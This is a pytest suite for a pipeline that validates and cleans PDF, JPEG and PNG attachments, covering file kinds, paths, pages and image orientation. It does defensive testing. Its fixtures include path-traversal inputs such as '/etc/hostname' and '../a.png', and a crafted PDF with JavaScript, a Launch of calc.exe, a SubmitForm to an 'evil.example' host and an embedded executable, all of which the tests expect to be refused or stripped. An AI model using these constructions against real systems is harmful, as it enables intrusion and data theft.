from __future__ import annotations

import hashlib
import io
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import img2pdf
import pikepdf
import pypdfium2
import pytest
from built import make_pdf, make_pdf_of, make_picture, make_png_header, saved
from conftest import EXAMPLES, Command, Edit, assert_refused
from PIL import Image

from pipeline import attach
from pipeline.attach import Paper, read_paper
from pipeline.errors import UnusableError

A4 = (595.28, 841.89)
JPEG = make_picture("JPEG")
PNG = make_picture("PNG")
SCAN = make_pdf_of(make_picture("JPEG", (800, 1000), quality=90), 3)


def refusal(folder: Path, path: str, content: bytes | None = None) -> UnusableError:
    if content is not None:
        (folder / path).write_bytes(content)
    with pytest.raises(UnusableError) as error:
        read_paper(folder, path)
    assert error.value.hint
    return error.value


def paper(folder: Path, name: str, content: bytes, size: tuple[float, float] | None = None) -> Paper:
    (folder / name).write_bytes(content)
    return read_paper(folder, name, size)


def pages_by_another_parser(pdf: bytes) -> int:
    document = pypdfium2.PdfDocument(pdf)
    try:
        return len(document)
    finally:
        document.close()


def box_of_picture(pdf: bytes) -> tuple[tuple[float, float], tuple[float, float, float, float]]:
    """Size of the page and (left, bottom, right, top) of its one picture, in points, by a second parser."""
    document = pypdfium2.PdfDocument(pdf)
    try:
        assert len(document) == 1
        (picture,) = document[0].get_objects()
        return document[0].get_size(), picture.get_bounds()
    finally:
        document.close()


def millimetres(points: float) -> float:
    return points / 72 * 25.4


class TestKinds:
    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("a.pdf", make_pdf()),
            ("A.PDF", make_pdf()),
            ("a.jpg", JPEG),
            ("a.jpeg", JPEG),
            ("A.JPG", JPEG),
            ("a.png", PNG),
            ("中文 名.png", PNG),
        ],
    )
    def test_what_its_name_says_is_accepted(self, tmp_path: Path, name: str, content: bytes) -> None:
        found = paper(tmp_path, name, content)
        assert pages_by_another_parser(found.pdf) == found.pages
        assert (found.size, found.sha256) == (len(content), hashlib.sha256(content).hexdigest())

    @pytest.mark.parametrize(
        ("name", "content", "message"),
        [
            ("a.jpg", PNG, "the file's name says JPEG, its content is PNG"),
            ("a.png", JPEG, "the file's name says PNG, its content is JPEG"),
            ("a.pdf", PNG, "the file's name says PDF, its content is PNG"),
            ("a.png", make_pdf(), "the file's name says PNG, its content is PDF"),
            ("a.pdf", b"plain text", "the file's name says PDF, its content is something else"),
            ("a.pdf", b"<!DOCTYPE html><html></html>", "the file's name says PDF, its content is something else"),
            ("a.gif", b"GIF89a", "files of this kind are not accepted"),
            ("a.tiff", make_picture("TIFF"), "files of this kind are not accepted"),
            ("a.docx", b"PK", "files of this kind are not accepted"),
            ("a", PNG, "files of this kind are not accepted"),
        ],
    )
    def test_what_its_name_does_not_say_is_refused(
        self, tmp_path: Path, name: str, content: bytes, message: str
    ) -> None:
        error = refusal(tmp_path, name, content)
        assert (error.code, error.message) == ("attachment-kind", message)

    def test_the_accepted_kinds_are_named(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a.bmp", b"BM").hint == "accepted: PDF, JPEG, PNG"

    def test_an_empty_file_is_refused(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a.pdf", b"").code == "attachment-empty"

    def test_a_missing_file_is_refused(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a.pdf").code == "attachment-missing"

    def test_a_file_that_is_too_large_is_refused(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(attach, "MAX_BYTES", len(PNG))
        assert paper(tmp_path, "a.png", PNG).pages == 1
        assert refusal(tmp_path, "a.png", PNG + b"\0").code == "attachment-size"


class TestPaths:
    @pytest.mark.parametrize(
        "path",
        [
            "../a.png",
            "papers/../../a.png",
            "papers/../a.png",
            "/etc/hostname",
            "~/a.png",
            "~root/a.png",
            "file:///etc/hostname",
            "https://example.com/a.png",
            "C:\\a.png",
            "C:/a.png",
            "papers\\a.png",
            "\\\\server\\share\\a.png",
        ],
    )
    def test_a_path_out_of_the_folder_is_refused(self, tmp_path: Path, path: str) -> None:
        folder = tmp_path / "case"
        (folder / "papers").mkdir(parents=True)
        for place in (tmp_path / "a.png", folder / "a.png"):
            place.write_bytes(PNG)
        assert refusal(folder, path).code == "attachment-outside"

    @pytest.mark.parametrize("path", ["a.png", "./a.png", "papers/deep/a.png", "a..b.png"])
    def test_a_path_inside_is_read(self, tmp_path: Path, path: str) -> None:
        place = tmp_path / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(PNG)
        assert read_paper(tmp_path, path).pages == 1

    @pytest.mark.parametrize("target", ["inside", "outside"])
    def test_a_link_to_a_file_is_refused(self, tmp_path: Path, target: str) -> None:
        folder = tmp_path / "case"
        folder.mkdir()
        real = (folder if target == "inside" else tmp_path) / "real.png"
        real.write_bytes(PNG)
        (folder / "a.png").symlink_to(real)
        assert refusal(folder, "a.png").code == "attachment-outside"

    @pytest.mark.parametrize("target", ["inside", "outside"])
    def test_a_link_to_a_folder_is_refused(self, tmp_path: Path, target: str) -> None:
        folder = tmp_path / "case"
        real = (folder if target == "inside" else tmp_path) / "real"
        real.mkdir(parents=True)
        (real / "a.png").write_bytes(PNG)
        (folder).mkdir(exist_ok=True)
        (folder / "papers").symlink_to(real)
        assert refusal(folder, "papers/a.png").code == "attachment-outside"

    def test_a_link_in_a_loop_and_a_dangling_one_are_refused(self, tmp_path: Path) -> None:
        (tmp_path / "a.png").symlink_to("a.png")
        (tmp_path / "b.png").symlink_to("nowhere.png")
        assert refusal(tmp_path, "a.png").code == "attachment-outside"
        assert refusal(tmp_path, "b.png").code == "attachment-outside"

    def test_the_folder_of_the_case_may_itself_be_a_link(self, tmp_path: Path) -> None:
        (tmp_path / "real").mkdir()
        (tmp_path / "case").symlink_to("real")
        assert paper(tmp_path / "case", "a.png", PNG).pages == 1

    @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
    def test_a_named_pipe_is_refused_without_waiting(self, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "a.pdf")
        assert refusal(tmp_path, "a.pdf").message == "this is not a regular file"

    def test_a_folder_is_refused_and_nothing_stays_open(self, tmp_path: Path) -> None:
        (tmp_path / "a.pdf").mkdir()
        first = os.open(tmp_path, os.O_RDONLY)
        os.close(first)
        assert refusal(tmp_path, "a.pdf").message == "this is not a regular file"
        assert refusal(tmp_path, ".").message == "this is not a regular file"
        second = os.open(tmp_path, os.O_RDONLY)
        os.close(second)
        assert second == first

    def test_a_name_that_no_system_takes_is_refused(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a" * 300 + ".pdf").code == "attachment-unreadable"

    @pytest.mark.usefixtures("ordinary_user")
    def test_an_unreadable_file_is_refused(self, tmp_path: Path) -> None:
        (tmp_path / "a.png").write_bytes(PNG)
        (tmp_path / "a.png").chmod(0)
        assert refusal(tmp_path, "a.png").code == "attachment-unreadable"

    def test_an_error_while_reading_is_told(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        def broken(*_arguments: Any, **_named: Any) -> int:
            raise PermissionError(13, "Permission denied")

        (tmp_path / "a.png").write_bytes(PNG)
        monkeypatch.setattr("pipeline.attach.os.open", broken)
        error = refusal(tmp_path, "a.png")
        assert (error.code, error.message) == ("attachment-unreadable", "the file cannot be read: Permission denied")


class TestPdf:
    @pytest.mark.parametrize("pages", [1, 2, 17])
    def test_pages_in_are_pages_out(self, tmp_path: Path, pages: int) -> None:
        found = paper(tmp_path, "a.pdf", make_pdf(pages))
        assert found.pages == pages == pages_by_another_parser(found.pdf)

    @pytest.mark.parametrize("user", ["secret", ""])
    def test_an_encrypted_pdf_is_refused(self, tmp_path: Path, user: str) -> None:
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            content = saved(pdf, encryption=pikepdf.Encryption(user=user, owner="owner"))
        assert refusal(tmp_path, "a.pdf", content).code == "attachment-encrypted"

    @pytest.mark.parametrize("percent", [1, 25, 50, 75, 90, 99])
    @pytest.mark.parametrize("content", [SCAN, make_pdf(8)], ids=["scan", "blank"])
    def test_a_truncated_pdf_is_refused_and_loses_no_page_silently(
        self, tmp_path: Path, content: bytes, percent: int
    ) -> None:
        cut = content[: len(content) * percent // 100]
        assert refusal(tmp_path, "a.pdf", cut).code == "attachment-damaged"

    def test_a_pdf_that_is_nothing_but_a_header_and_an_end_is_refused(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a.pdf", b"%PDF-1.7\n%%EOF\n").code == "attachment-damaged"

    def test_a_pdf_with_a_wrong_table_or_padding_at_its_end_is_mended(self, tmp_path: Path) -> None:
        content = make_pdf(3)
        start = content.rindex(b"startxref")
        wrong = content[:start] + b"startxref\n7\n%%EOF\n"
        assert paper(tmp_path, "a.pdf", wrong).pages == 3
        assert paper(tmp_path, "b.pdf", content + b"\0" * 4096).pages == 3
        assert paper(tmp_path, "c.pdf", b"\n\n" + content).pages == 3

    def test_a_pdf_without_pages_is_refused(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a.pdf", make_pdf(0)).code == "attachment-pages"

    def test_a_pdf_with_too_many_pages_is_refused(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(attach, "MAX_PAGES", 3)
        assert paper(tmp_path, "a.pdf", make_pdf(3)).pages == 3
        error = refusal(tmp_path, "a.pdf", make_pdf(4))
        assert (error.code, error.message) == ("attachment-pages", "the PDF has 4 pages; 1 to 3 can be used")

    def test_what_a_pdf_would_do_is_taken_out(self, tmp_path: Path) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            page = pdf.add_blank_page()
            pdf.Root.OpenAction = script
            pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
            page.AA = pikepdf.Dictionary(O=script)
            launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
            send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
            page.Annots = pikepdf.Array(
                [
                    pdf.make_indirect(
                        pikepdf.Dictionary(
                            Type=pikepdf.Name.Annot,
                            Subtype=pikepdf.Name.Link,
                            Rect=pikepdf.Array([0, 0, 9, 9]),
                            A=action,
                        )
                    )
                    for action in (script, launch, send)
                ]
            )
            (tmp_path / "payload.exe").write_bytes(b"MZ payload")
            attached = pikepdf.AttachedFileSpec.from_filepath(pdf, tmp_path / "payload.exe")
            pdf.attachments["payload.exe"] = attached
            content = saved(pdf)
        assert all(word in expanded(content) for word in ACTIVE)
        found = paper(tmp_path, "a.pdf", content)
        assert found.pages == 2
        left = expanded(found.pdf)
        assert [word for word in ACTIVE if word in left] == []

    def test_the_text_layer_survives_the_cleaning(self, tmp_path: Path) -> None:
        content = (EXAMPLES / "wang-xiaoming" / "papers" / "bank-certificate.pdf").read_bytes()
        assert text(paper(tmp_path, "a.pdf", content).pdf) == text(content)

    def test_the_same_pdf_gives_the_same_bytes(self, tmp_path: Path) -> None:
        assert paper(tmp_path, "a.pdf", SCAN).pdf == paper(tmp_path, "b.pdf", SCAN).pdf


ACTIVE = (b"/JavaScript", b"app.alert", b"/Launch", b"calc.exe", b"/SubmitForm", b"/EmbeddedFile", b"MZ payload")


def expanded(content: bytes) -> bytes:
    """The PDF without compression, so that its words can be searched."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        return saved(
            pdf,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )


def text(content: bytes) -> list[str]:
    document = pypdfium2.PdfDocument(content)
    try:
        return [page.get_textpage().get_text_bounded() for page in document]
    finally:
        document.close()


class TestPicture:
    @pytest.mark.parametrize("size", [(300, 200), (200, 300), (3000, 100), (100, 3000), (20, 20)])
    def test_a_picture_fills_an_a4_page_within_its_margins(self, tmp_path: Path, size: tuple[int, int]) -> None:
        page, (left, bottom, right, top) = box_of_picture(paper(tmp_path, "a.png", make_picture("PNG", size)).pdf)
        assert page == pytest.approx(A4, abs=0.1)
        margins = (left, bottom, page[0] - right, page[1] - top)
        assert all(millimetres(margin) >= 10 - 0.1 for margin in margins)
        assert min(millimetres(margin) for margin in margins) == pytest.approx(10, abs=0.1)
        assert (right - left) / (top - bottom) == pytest.approx(size[0] / size[1], rel=0.01)

    @pytest.mark.parametrize("dpi", [(72, 72), (1200, 1200), (1, 1)])
    @pytest.mark.parametrize(("name", "kind"), [("a.jpg", "JPEG"), ("a.png", "PNG")])
    def test_a_photo_has_exactly_its_print_size(
        self, tmp_path: Path, name: str, kind: str, dpi: tuple[int, int]
    ) -> None:
        content = make_picture(kind, (531, 531), dpi=dpi)
        page, (left, bottom, right, top) = box_of_picture(paper(tmp_path, name, content, (45, 45)).pdf)
        assert page == pytest.approx(A4, abs=0.1)
        assert (millimetres(right - left), millimetres(top - bottom)) == pytest.approx((45, 45), abs=0.05)

    @pytest.mark.parametrize("mode", ["RGB", "L", "CMYK"])
    def test_jpeg_data_is_wrapped_as_it_is(self, tmp_path: Path, mode: str) -> None:
        content = make_picture("JPEG", mode=mode)
        with pikepdf.open(io.BytesIO(paper(tmp_path, "a.jpg", content).pdf)) as pdf:
            (picture,) = dict(pdf.pages[0].Resources.XObject).values()
            assert picture.Filter == pikepdf.Name.DCTDecode or list(picture.Filter) == [pikepdf.Name.DCTDecode]
            assert picture.read_raw_bytes() == content

    def test_png_data_is_wrapped_as_it_is(self, tmp_path: Path) -> None:
        content = make_picture("PNG")
        assert content.count(b"IDAT") == 1
        start = content.index(b"IDAT")
        data = content[start + 4 : start + 4 + int.from_bytes(content[start - 4 : start])]
        with pikepdf.open(io.BytesIO(paper(tmp_path, "a.png", content).pdf)) as pdf:
            (picture,) = dict(pdf.pages[0].Resources.XObject).values()
            assert picture.read_raw_bytes() == data

    @pytest.mark.parametrize("mode", ["RGBA", "LA"])
    def test_transparency_becomes_white(self, tmp_path: Path, mode: str) -> None:
        picture = Image.new(mode, (40, 20), 0)
        picture.paste(Image.new(mode, (20, 20), tuple([0] * (len(mode) - 1) + [255])), (0, 0))
        out = io.BytesIO()
        picture.save(out, "PNG")
        document = pypdfium2.PdfDocument(paper(tmp_path, "a.png", out.getvalue()).pdf)
        try:
            (drawn,) = document[0].get_objects()
            shown = drawn.get_bitmap().to_pil().convert("RGB")
        finally:
            document.close()
        assert (shown.getpixel((5, 10)), shown.getpixel((35, 10))) == ((0, 0, 0), (255, 255, 255))

    def test_a_palette_with_a_transparent_colour_becomes_white(self, tmp_path: Path) -> None:
        picture = Image.new("P", (40, 20), 0)
        picture.putpalette([10, 20, 30, 200, 0, 0])
        out = io.BytesIO()
        picture.save(out, "PNG", transparency=0)
        document = pypdfium2.PdfDocument(paper(tmp_path, "a.png", out.getvalue()).pdf)
        try:
            shown = document[0].render().to_pil().convert("RGB")
        finally:
            document.close()
        assert shown.getcolors() == [(shown.width * shown.height, (255, 255, 255))]

    @pytest.mark.parametrize(("orientation", "turn"), [(1, 0), (3, 180), (6, 90), (8, 270)])
    def test_a_turned_photo_stands_upright(self, tmp_path: Path, orientation: int, turn: int) -> None:
        exif = Image.Exif()
        exif[274] = orientation
        content = make_picture("JPEG", (300, 200), exif=exif)
        with pikepdf.open(io.BytesIO(paper(tmp_path, "a.jpg", content).pdf)) as pdf:
            assert int(pdf.pages[0].obj.get("/Rotate", 0)) % 360 == turn

    @pytest.mark.parametrize("orientation", range(1, 9))
    @pytest.mark.parametrize("print_size", [None, (45.0, 30.0)])
    def test_every_orientation_shows_the_same_upright_page(
        self, tmp_path: Path, orientation: int, print_size: tuple[float, float] | None
    ) -> None:
        """Red on the left, blue on the right, whatever the camera wrote about how it was held."""
        upright = Image.new("RGB", (300, 200), "red")
        upright.paste("blue", (150, 0, 300, 200))
        turns = {2: 0, 3: 3, 4: 1, 5: 5, 6: 2, 7: 6, 8: 4}  # what the camera did: the inverse of what undoes it
        stored = upright.transpose(Image.Transpose(turns[orientation])) if orientation > 1 else upright
        exif = Image.Exif()
        exif[274] = orientation
        out = io.BytesIO()
        stored.save(out, "JPEG", exif=exif, quality=95)
        (tmp_path / "a.jpg").write_bytes(out.getvalue())
        document = pypdfium2.PdfDocument(read_paper(tmp_path, "a.jpg", print_size).pdf)
        try:
            page = document[0]
            assert [round(length) for length in page.get_size()] == [595, 842]
            shown = page.render().to_pil().convert("RGB")
        finally:
            document.close()
        middle = shown.height // 2
        coloured = [x for x in range(shown.width) if min(shown.getpixel((x, middle))) < 100]
        left, right = shown.getpixel((coloured[5], middle)), shown.getpixel((coloured[-5], middle))
        assert left[0] > 200 > left[2]
        assert right[2] > 200 > right[0]
        width_mm = len(coloured) / 72 * 25.4
        assert abs(width_mm - (45 if print_size else 190)) < 1.5

    @pytest.mark.parametrize("size", [(9_000, 9_000), (13_000, 13_000), (60_000, 60_000)])
    def test_too_many_pixels_are_refused_without_decoding_them(
        self, tmp_path: Path, size: tuple[int, int], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def decoded(_picture: Image.Image) -> None:
            raise AssertionError("the pixels were decoded")

        monkeypatch.setattr("PIL.ImageFile.ImageFile.load", decoded)
        error = refusal(tmp_path, "a.png", make_png_header(*size))
        assert (error.code, error.message) == ("attachment-pixels", "the picture has more than 60 million pixels")

    @pytest.mark.parametrize("percent", [5, 25, 50, 75, 90])
    @pytest.mark.parametrize(("name", "content"), [("a.jpg", JPEG), ("a.png", PNG)])
    def test_a_truncated_picture_is_refused(self, tmp_path: Path, name: str, content: bytes, percent: int) -> None:
        assert refusal(tmp_path, name, content[: len(content) * percent // 100]).code == "attachment-damaged"

    @pytest.mark.parametrize(("name", "content"), [("a.jpg", JPEG), ("a.png", PNG)])
    def test_the_same_picture_gives_the_same_bytes(self, tmp_path: Path, name: str, content: bytes) -> None:
        first, second = paper(tmp_path, name, content), paper(tmp_path, name, content)
        assert first.pdf == second.pdf
        assert b"/CreationDate" not in first.pdf

    def test_a_failure_of_the_wrapping_is_told(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        def broken(*_arguments: Any, **_named: Any) -> bytes:
            raise img2pdf.ImageOpenError("cannot read the input")

        monkeypatch.setattr("pipeline.pictures.img2pdf.convert", broken)
        assert refusal(tmp_path, "a.png", PNG).code == "attachment-damaged"


def put(content: bytes | None, name: str) -> Callable[[Path], str]:
    def make(folder: Path) -> str:
        if content is not None:
            (folder / "papers" / name).write_bytes(content)
        return f"papers/{name}"

    return make


def link(folder: Path) -> str:
    (folder / "papers" / "link.png").symlink_to(folder / "papers" / "passport.png")
    return "papers/link.png"


def encrypted() -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        return saved(pdf, encryption=pikepdf.Encryption(user="secret", owner="secret"))


class TestBuild:
    """The same through the command: place, exit code, nothing written."""

    @pytest.mark.parametrize(
        ("code", "make"),
        [
            ("attachment-missing", put(None, "none.pdf")),
            ("attachment-empty", put(b"", "a.pdf")),
            ("attachment-kind", put(PNG, "a.jpg")),
            ("attachment-kind", put("王晓明".encode(), "a.pdf")),
            ("attachment-kind", put(b"<html></html>", "a.pdf")),
            ("attachment-kind", put(b"GIF89a", "a.gif")),
            ("attachment-encrypted", put(encrypted(), "a.pdf")),
            ("attachment-damaged", put(SCAN[: len(SCAN) // 2], "a.pdf")),
            ("attachment-damaged", put(JPEG[:-40], "a.jpg")),
            ("attachment-pages", put(make_pdf(0), "a.pdf")),
            ("attachment-pixels", put(make_png_header(9000, 9000), "a.png")),
            ("attachment-outside", lambda _folder: "../papers/a.pdf"),
            ("attachment-outside", lambda _folder: "/etc/hostname"),
            ("attachment-outside", lambda _folder: "~/a.pdf"),
            ("attachment-outside", lambda _folder: "file:///etc/hostname"),
            ("attachment-outside", lambda _folder: "C:\\a.pdf"),
            ("attachment-outside", link),
        ],
    )
    def test_it_is_refused_with_its_place(
        self, case_folder: Path, edit: Edit, visa_packet: Command, code: str, make: Callable[[Path], str]
    ) -> None:
        path = make(case_folder)
        case = edit({"/attachments/2/path": path})
        out = case_folder / "out"
        run = visa_packet("build", case, "-o", out, "--json", "--as-of", "2026-11-22")
        (problem,) = [each for each in assert_refused(run, out, 5) if each["severity"] == "error"]
        assert (problem["code"], problem["pointer"]) == (code, "/attachments/2/path")
        assert problem["file"] == str(case)
        line = case.read_text(encoding="utf-8").splitlines()[problem["line"] - 1]
        assert line[problem["column"] - 1 :].startswith('"')
        assert line.lstrip().startswith('"path"')
        assert problem["message"].startswith("funds_proof of patient: ")
        assert path not in problem["message"]

    def test_all_of_them_are_told_at_once(self, case_folder: Path, edit: Edit, visa_packet: Command) -> None:
        case = edit({f"/attachments/{index}/path": f"none-{index}.pdf" for index in range(4)})
        out = case_folder / "out"
        problems = assert_refused(visa_packet("build", case, "-o", out, "--json", "--as-of", "2026-11-22"), out, 5)
        pointers = [problem["pointer"] for problem in problems if problem["code"] == "attachment-missing"]
        assert pointers == [f"/attachments/{index}/path" for index in range(4)]
